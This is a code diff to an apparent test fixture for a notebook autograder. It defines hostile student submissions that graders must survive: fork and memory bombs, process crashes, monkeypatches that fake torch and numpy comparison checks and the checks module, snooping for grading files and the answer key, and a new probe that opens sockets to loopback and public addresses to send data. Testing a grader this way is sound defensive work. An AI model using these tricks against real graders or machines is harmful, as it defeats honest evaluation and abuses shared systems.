@@ -3,7 +3,8 @@ a2 attacks aimed at a2's own oracles.
 
 Each entry is a file to put in the submissions folder and what grading must make of it: the most
 points each part may get, and a pattern that the student's notes must match (the recorded reason).
-The hostile ones are the attacks that plain ``nbgrader autograde`` falls for (see issue 3).
+The hostile ones are the attacks that plain ``nbgrader autograde`` falls for (see issue 3). A part
+that hangs, crashes its process or is wrong costs its own points only (issue 12).
 """
 
 from __future__ import annotations
@@ -100,8 +101,27 @@ def steal(course: str) -> str:
     ).format(course=course)
 
 
-def hostile_cases(course: str, out: str, inbox: str) -> dict[str, Case]:
-    """Student id -> case. The attacks know where the course, the grades and the submissions are."""
+def connect_out(port: int) -> str:
+    """Code that tries to reach the grading machine's loopback (``port``, where a test listens) and
+    the internet, and makes its part wrong if either connection opens."""
+    return (
+        "import socket\n"
+        "_reached = []\n"
+        "for _address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
+        "    try:\n"
+        "        with socket.create_connection(_address, timeout=2) as _s:\n"
+        "            _s.sendall(b'leak')\n"
+        "            _reached.append(_address)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "if _reached:\n"
+        "    causal_mask = None\n"
+    ).format(port=port)
+
+
+def hostile_cases(course: str, out: str, inbox: str, port: int = 9) -> dict[str, Case]:
+    """Student id -> case. The attacks know where the course, the grades and the submissions are,
+    and ``port``, where a server of the grading machine listens on its loopback."""
     snoop = (
         "import glob\n"
         "for _p in glob.glob({course!r} + '/grading/*.py') + glob.glob('../../../grading/*.py') + glob.glob('../../../../*/grading/*.py') + glob.glob('/tmp/**/grading/*.py', recursive=True):\n"
@@ -119,20 +139,20 @@ def hostile_cases(course: str, out: str, inbox: str) -> dict[str, Case]:
     cases = {
         "correct": Case("correct.ipynb", notebook(), FULL),
         "buggy": Case("buggy.ipynb", notebook({"sdpa": MISSING_SCALE}), without("sdpa")),
-        "loop_top_level": Case("loop_top_level.ipynb", notebook({"masks": spin + KEY["masks"]}), without("masks", "mha"), "time limit"),
-        "loop_in_function": Case("loop_in_function.ipynb", notebook({"split_merge": "def split_heads(x, n_heads):\n    " + spin.replace("\n    ", "\n        ") + "\n\ndef merge_heads(x):\n    " + spin.replace("\n    ", "\n        ")}), without("split_merge", "mha"), "time limit"),
-        "sys_exit": Case("sys_exit.ipynb", notebook({"sdpa": "import sys\n\ndef scaled_dot_product_attention(q, k, v, mask=None):\n    sys.exit(0)\n"}), without("sdpa", "mha")),
-        "os_exit": Case("os_exit.ipynb", notebook({"masks": "import os\nos._exit(0)\n"}), ZERO, "kernel died|crashed|could not autograde|timed out"),
-        "kills_kernel": Case("kills_kernel.ipynb", notebook({"split_merge": "import ctypes\nctypes.string_at(0)\n"}), ZERO, "kernel died|crashed|could not autograde|timed out"),
+        "loop_top_level": Case("loop_top_level.ipynb", notebook({"masks": spin + KEY["masks"]}), without("masks"), "time limit"),
+        "loop_in_function": Case("loop_in_function.ipynb", notebook({"split_merge": "def split_heads(x, n_heads):\n    " + spin.replace("\n    ", "\n        ") + "\n\ndef merge_heads(x):\n    " + spin.replace("\n    ", "\n        ")}), without("split_merge"), "time limit"),
+        "sys_exit": Case("sys_exit.ipynb", notebook({"sdpa": "import sys\n\ndef scaled_dot_product_attention(q, k, v, mask=None):\n    sys.exit(0)\n"}), without("sdpa")),
+        "os_exit": Case("os_exit.ipynb", notebook({"masks": "import os\nos._exit(0)\n"}), without("masks"), "stopped the notebook's process"),
+        "kills_its_process": Case("kills_its_process.ipynb", notebook({"split_merge": "import ctypes\nctypes.string_at(0)\n"}), without("split_merge"), "stopped the notebook's process"),
         "memory_bomb": Case("memory_bomb.ipynb", notebook({"sdpa": WRONG_SDPA + "\n_hog = [bytearray(2**30) for _ in range(64)]\n"}), without("sdpa"), "out of memory"),
         "fork_bomb": Case("fork_bomb.ipynb", notebook({"sdpa": WRONG_SDPA + "\nimport subprocess\n_procs = []\ntry:\n    for _ in range(2000):\n        _procs.append(subprocess.Popen(['sleep', '600']))\nexcept OSError:\n    pass\n"}), ZERO, "limit of .* processes"),
         "patches_allclose": Case("patches_allclose.ipynb", notebook({"sdpa": WRONG_SDPA + "\nimport numpy\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"}), without("sdpa")),
         "fakes_checks_module": Case("fakes_checks_module.ipynb", notebook({"sdpa": WRONG_SDPA + "\nimport sys, types\n_fake = types.ModuleType('a1_attention_checks')\n_fake.check_sdpa = _fake.check_masks = _fake.check_split_merge = _fake.check_mha = lambda *a, **k: None\n_fake.use_reference_parts = lambda *a: (lambda: None)\nsys.modules['a1_attention_checks'] = _fake\n"}), without("sdpa")),
         "patches_gradinglib": Case("patches_gradinglib.ipynb", notebook({"sdpa": WRONG_SDPA + "\nimport gradinglib\ngradinglib.run_cases = lambda *a, **k: None\n"}), without("sdpa")),
         "patches_torch": Case("patches_torch.ipynb", notebook({"sdpa": WRONG_SDPA + "\n_sub = torch.Tensor.__sub__\ntorch.Tensor.__sub__ = lambda a, b: _sub(a, a)\n"}), without("sdpa")),
-        "steals_reference": Case("steals_reference.ipynb", notebook({"sdpa": "from a1_attention_reference_parts import scaled_dot_product_attention\n"}), without("sdpa", "mha")),
+        "steals_reference": Case("steals_reference.ipynb", notebook({"sdpa": "from a1_attention_reference_parts import scaled_dot_product_attention\n"}), without("sdpa")),
         "redefines_test_names": Case("redefines_test_names.ipynb", notebook({"sdpa": WRONG_SDPA + "\nimport builtins\n_real_import = builtins.__import__\nclass _Fake:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\ndef _import(name, *a, **k):\n    return _Fake() if name == 'a1_attention_checks' else _real_import(name, *a, **k)\nbuiltins.__import__ = _import\n"}), without("sdpa")),
-        "reads_answer_key": Case("reads_answer_key.ipynb", notebook({"sdpa": steal(course)}), without("sdpa", "mha")),
+        "reads_answer_key": Case("reads_answer_key.ipynb", notebook({"sdpa": steal(course)}), without("sdpa")),
         "vandal": Case("vandal.ipynb", notebook({"masks": KEY["masks"] + "\n" + vandal}), FULL),
         "edits_test_cell": Case("edits_test_cell.ipynb", notebook({"sdpa": WRONG_SDPA}, _edit_test_cell), without("sdpa"), "read-only cells edited"),
         "deletes_test_cells": Case("deletes_test_cells.ipynb", notebook(None, _delete_test_cells), FULL, "read-only cells edited or deleted"),
@@ -141,6 +161,7 @@ def hostile_cases(course: str, out: str, inbox: str) -> dict[str, Case]:
         "not_json": Case("not_json.ipynb", b'{"cells": [', ZERO, "not a valid|JSON"),
         "empty": Case("empty.ipynb", b"", ZERO, "empty|not a valid"),
         "prints_hidden_checks": Case("prints_hidden_checks.ipynb", notebook({"masks": KEY["masks"] + "\n" + snoop}), FULL),
+        "connects_out": Case("connects_out.ipynb", notebook({"masks": KEY["masks"] + "\n" + connect_out(port)}), FULL),
         "prints_a_lot": Case("prints_a_lot.ipynb", notebook({"masks": KEY["masks"] + "\nfor _ in range(1024):\n    print('x' * 2**20)\n"}), FULL),
     }
     return cases
@@ -187,7 +208,7 @@ def a2_cases(course: str) -> dict[str, Case]:
         "bessel_bends_layer_norm": Case("bessel_bends_layer_norm.ipynb", nb({"layer_norm": BESSEL + bend_layer_norm}), a2_without("layer_norm")),
         "unmasked_bends_decoder": Case("unmasked_bends_decoder.ipynb", nb({"decoder": NO_CAUSAL_MASK + bend_decoder}), a2_without("decoder")),
         "loop_in_sinusoidal": Case("loop_in_sinusoidal.ipynb", nb({"sinusoidal": spin}), a2_without("sinusoidal"), "time limit"),
-        # layer_norm is never defined, so the blocks built on it fail their visible tests too
-        "steals_reference": Case("steals_reference.ipynb", nb({"layer_norm": "from a2_blocks_reference_parts import layer_norm\n"}), a2_without("layer_norm", "pre_ln", "decoder")),
-        "reads_answer_key": Case("reads_answer_key.ipynb", nb({"layer_norm": steal(course)}), a2_without("layer_norm", "pre_ln", "decoder")),
+        # layer_norm is never defined; the blocks built on it are graded with a correct one
+        "steals_reference": Case("steals_reference.ipynb", nb({"layer_norm": "from a2_blocks_reference_parts import layer_norm\n"}), a2_without("layer_norm")),
+        "reads_answer_key": Case("reads_answer_key.ipynb", nb({"layer_norm": steal(course)}), a2_without("layer_norm")),
     }
